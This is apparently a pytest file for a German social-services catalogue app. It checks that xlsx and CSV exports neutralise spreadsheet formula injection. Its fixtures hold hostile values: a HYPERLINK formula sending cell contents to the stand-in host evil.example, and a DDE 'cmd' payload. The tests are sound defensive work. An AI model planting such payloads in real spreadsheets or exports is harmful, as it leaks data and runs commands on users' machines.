"""Exports never carry a live formula (issue 14): xlsx cells are text, every CSV cell is neutralised."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session

from app.catalogue.csv_safe import neutralise
from tests import factories
from tests.app.auth.fixtures import World, login

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klick")'
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(?:[.,]\d+)?$")


def _assert_no_formula(text: str, *, delimiter: str) -> int:
    """Every cell of a CSV is safe; returns how many cells carried the hostile text (neutralised)."""
    found = 0
    for row in csv.reader(io.StringIO(text), delimiter=delimiter):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or _PLAIN_NUMBER.match(cell), cell
            found += cell == "'" + HOSTILE
    return found


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+49 3641", "'+49 3641"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12,50", "-12,50"),
        (-3, "-3"),
        ("Krabbelgruppe", "Krabbelgruppe"),
        (None, ""),
        (True, "true"),
    ],
)
def test_neutralise(value: object, expected: str) -> None:
    assert neutralise(value) == expected


@pytest.fixture
def hostile(session: Session, world: World) -> None:
    place = factories.einrichtung(session, traeger_row=world.traeger_a, name=HOSTILE, telefon="+49 3641 123")
    factories.angebot(
        session, einrichtung_row=place, titel=HOSTILE, beschreibung="@SUM(1+1)*cmd|' /C calc'!A0"
    )
    factories.foerderung(session, traeger_row=world.traeger_a, projekt=HOSTILE, jahr=2021)
    factories.einrichtung(session, traeger_row=factories.traeger(session, name=HOSTILE))
    session.commit()


def test_admin_workbook_export_writes_text_not_formulas(
    client: TestClient, world: World, hostile: None
) -> None:
    assert login(client, "admin@example.org").status_code == 303
    response = client.get("/verwaltung/export.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(book.read(n).decode() for n in sheets)
    assert "<f>" not in xml and "<f " not in xml
    assert "HYPERLINK(&quot;http://evil.example" in xml or 'HYPERLINK("http://evil.example' in xml


def test_hsds_export_csvs_are_neutralised(client: TestClient, world: World, hostile: None) -> None:
    response = client.get("/api/hsds/export.zip")
    assert response.status_code == 200
    found = 0
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                found += _assert_no_formula(archive.read(name).decode("utf-8-sig"), delimiter=",")
    assert found >= 2  # the service name and the organisation/location name


def test_funding_csvs_are_neutralised(client: TestClient, world: World, hostile: None) -> None:
    standard = client.get("/foerderung/download/alle/foerderungen.csv")
    excel = client.get("/foerderung/download/alle/foerderungen-excel.csv")
    assert standard.status_code == excel.status_code == 200
    assert _assert_no_formula(standard.content.decode("utf-8"), delimiter=",") == 1
    assert _assert_no_formula(excel.content.decode("utf-8-sig"), delimiter=";") == 1


def test_admin_csvs_are_neutralised(client: TestClient, world: World, hostile: None) -> None:
    assert login(client, "admin@example.org").status_code == 303
    stale = client.get("/verwaltung/ungeprueft.csv")
    assert stale.status_code == 200
    assert _assert_no_formula(stale.content.decode("utf-8-sig"), delimiter=";") >= 1
    audit = client.get("/verwaltung/protokoll.csv")
    assert audit.status_code == 200
    _assert_no_formula(audit.content.decode("utf-8-sig"), delimiter=";")
    planning = client.get("/planung/abdeckung.csv?nach=zielgruppen")
    assert planning.status_code == 200
    _assert_no_formula(planning.content.decode("utf-8-sig"), delimiter=";")
